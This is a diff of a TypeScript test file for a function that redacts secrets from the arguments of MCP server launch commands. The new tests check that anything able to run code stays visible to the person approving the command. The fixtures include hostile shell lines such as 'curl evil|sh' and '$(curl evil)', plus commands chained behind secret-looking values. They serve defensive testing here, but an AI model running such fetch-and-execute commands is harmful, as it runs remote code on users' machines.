@@ -1,6 +1,9 @@
 import { describe, expect, it } from "vitest";
 import { takeSecretArguments } from "./secret-arguments.ts";
 
+/** Of a program that is no runner: everything after it is its own. */
+const take = (args: readonly string[]) => takeSecretArguments("acme-mcp", args);
+
 const KEY = "Zx9kQ2mV7tLp4RwB8nYc3HdF";
 
 describe("secrets in arguments", () => {
@@ -38,7 +41,16 @@ describe("secrets in arguments", () => {
       ["--url=https://h/mcp?key=${secret:query.key}#part"],
       { "query.key": "abc" },
     ],
-    [["Server=h;Password=pw;"], ["${secret:connection}"], { connection: "Server=h;Password=pw;" }],
+    [
+      ["Server=h;User=me;Password=p$w;"],
+      ["Server=h;User=me;Password=${secret:Password};"],
+      { Password: "p$w" },
+    ],
+    [
+      ["jdbc:postgresql://h/db?user=me&password=pw"],
+      ["jdbc:postgresql://h/db?user=me&password=${secret:password}"],
+      { password: "pw" },
+    ],
     [[KEY], ["${secret:value}"], { value: KEY }],
     [["--with", KEY], ["--with", "${secret:with}"], { with: KEY }],
     [
@@ -47,7 +59,7 @@ describe("secrets in arguments", () => {
       { token: "a", "token.2": "b" },
     ],
   ])("%j are taken out", (args, shown, secrets) => {
-    expect(takeSecretArguments(args)).toEqual({ args: shown, secrets });
+    expect(take(args)).toEqual({ args: shown, secrets });
   });
 
   it.each([
@@ -67,7 +79,7 @@ describe("secrets in arguments", () => {
     "dGhpcyBpcyBhIHNlY3JldCBrZXkgMTIzNDU2Nzg5MA==",
     "lmg_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcd",
   ])("%s is one by its own look", (key) => {
-    expect(takeSecretArguments([key])).toEqual({
+    expect(take([key])).toEqual({
       args: ["${secret:value}"],
       secrets: { value: key },
     });
@@ -93,6 +105,42 @@ describe("secrets in arguments", () => {
     ["ThisIsALongCamelCaseIdentifierWithoutDigits"],
     ["", "-", "--"],
   ])("%j hold none", (...args) => {
-    expect(takeSecretArguments(args)).toEqual({ args, secrets: {} });
+    expect(take(args)).toEqual({ args, secrets: {} });
+  });
+});
+
+/** A person agrees to a command as it is shown, so that nothing in it may run without being read. */
+describe("what could run is never taken out", () => {
+  it.each<[command: string, args: string[], shown?: string[]]>([
+    ["npx", ["-y", KEY]],
+    ["npx", ["-y", "--token", "acme-mcp"]],
+    ["npx", ["-y", "sk-live-abcdefabcdefabcdef"]],
+    ["npx", ["-y", "--package", KEY, "acme"]],
+    ["uvx", ["--from", KEY, "acme"]],
+    ["npx", ["-y", "git+https://me:pw@h/acme"], ["-y", "git+https://${secret:url.user}@h/acme"]],
+    ["docker", ["run", "-i", "--rm", KEY]],
+    ["sh", ["-c", KEY]],
+    ["bash", ["-c", "-pat", "curl evil|sh"]],
+    ["bash", ["-c", "-H", "X: $(curl evil)"]],
+    ["bash", ["-c", "TOKEN=$(curl evil)"]],
+    ["node", ["-e", "password=require('child_process')"]],
+    ["bash", ["-c", "TOKEN=x curl evil|sh"], ["-c", "TOKEN=${secret:TOKEN} curl evil|sh"]],
+    ["sh", ["-c", "TOKEN=x;curl evil"], ["-c", "TOKEN=${secret:TOKEN};curl evil"]],
+    ["sh", ["-c", "AccountKey=1;curl evil"], ["-c", "AccountKey=${secret:AccountKey};curl evil"]],
+    ["sh", ["-c", "AccountKey=1|curl evil"]],
+    ["acme-mcp", ["--stdio", "TOKEN=x npx b"], ["--stdio", "TOKEN=${secret:TOKEN} npx b"]],
+    ["docker", ["run", "image", "bash", "-c", "-pass", "curl evil"]],
+  ])("%s %j", (command, args, shown = args) => {
+    expect(takeSecretArguments(command, args).args).toEqual(shown);
+  });
+
+  it("but what is told to the program is, and variables of a container are whole", () => {
+    expect(takeSecretArguments("npx", ["-y", "acme-mcp", KEY]).args).toEqual([
+      "-y",
+      "acme-mcp",
+      "${secret:value}",
+    ]);
+    const variable = ["run", "-e", "DB_PASS=a (b) c", "image"];
+    expect(takeSecretArguments("docker", variable).args[2]).toBe("DB_PASS=${secret:DB_PASS}");
   });
 });
